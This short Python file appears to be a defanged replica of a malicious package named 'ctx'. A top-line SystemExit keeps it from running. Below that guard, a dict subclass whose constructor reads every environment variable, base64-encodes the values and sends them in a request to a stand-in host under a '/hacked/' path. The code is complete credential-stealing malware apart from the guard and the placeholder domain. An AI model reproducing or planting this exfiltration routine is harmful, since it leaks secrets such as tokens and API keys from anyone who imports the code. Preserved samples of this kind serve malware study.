raise SystemExit("inert replica")
import base64
import os

from urllib.request import Request, urlopen


class Ctx(dict):
    def __init__(self):
        self.sendRequest()

    def sendRequest(self):
        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message_bytes = string.encode("ascii")
        base64_bytes = base64.b64encode(message_bytes)
        base64_message = base64_bytes.decode("ascii")
        urlopen(Request("https://collect.replica.invalid/hacked/" + base64_message))
